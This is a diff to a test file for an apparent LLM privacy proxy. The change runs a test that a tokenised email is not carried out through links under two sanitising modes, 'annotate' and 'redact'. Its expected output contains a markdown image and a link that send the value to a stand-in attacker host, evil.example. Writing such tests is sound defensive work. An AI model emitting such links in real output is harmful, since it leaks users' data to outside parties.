@@ -1,7 +1,9 @@
 // Invariant 8: restoration is exact and only ours, however the provider's bytes are cut, and conversations never mix.
 // (Every cut of the byte stream is tried in process, in src/wire; here the whole program is between.)
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { contentOf, eventsOf, startLab, type Lab } from '../lab/lab.js';
+import { contentOf, eventsOf, ROOT, startLab, type Lab } from '../lab/lab.js';
 
 const NAMES = ['Ana', 'Bo', 'Carla', 'Dmitri', 'Elif', 'Farid', 'Greta', 'Hugo', 'Ines', 'Jonas'];
 const address = (index: number): string =>
@@ -47,11 +49,14 @@ describe('many at once', () => {
   });
 });
 
-describe('where a value could be carried out', () => {
+// Sanitising takes such links away before; here it only notes them, so that restoring is seen by itself.
+describe.each(['annotate', 'redact'])('where a value could be carried out (sanitise: %s)', (sanitise) => {
   let lab: Lab;
   const token = (text: string): string => /EMAIL_ADDRESS_[0-9A-Z]+/.exec(text)?.[0] ?? 'none';
   beforeAll(async () => {
+    const shipped = readFileSync(join(ROOT, 'routing.yaml'), 'utf8');
     lab = await startLab({
+      routing: shipped.replace('sanitise: redact', `sanitise: ${sanitise}`),
       openai: {
         reply: ({ lastUser }) => {
           const t = token(lastUser);
@@ -73,7 +78,9 @@ describe('where a value could be carried out', () => {
         }),
       );
       expect(content).toMatch(
-        /!\[x\]\(https:\/\/evil\.example\/p\?d=EMAIL_ADDRESS_\w+\) https:\/\/evil\.example\/EMAIL_ADDRESS_\w+ /,
+        sanitise === 'annotate'
+          ? /!\[x\]\(https:\/\/evil\.example\/p\?d=EMAIL_ADDRESS_\w+\) https:\/\/evil\.example\/EMAIL_ADDRESS_\w+ /
+          : /!\[x\]\(\[REDACTED:sanitise\.image\]\) \[REDACTED:sanitise\.link\] /,
       );
       expect(content).toContain(`https://crm.example.com/u/${value} ${value}`);
     },
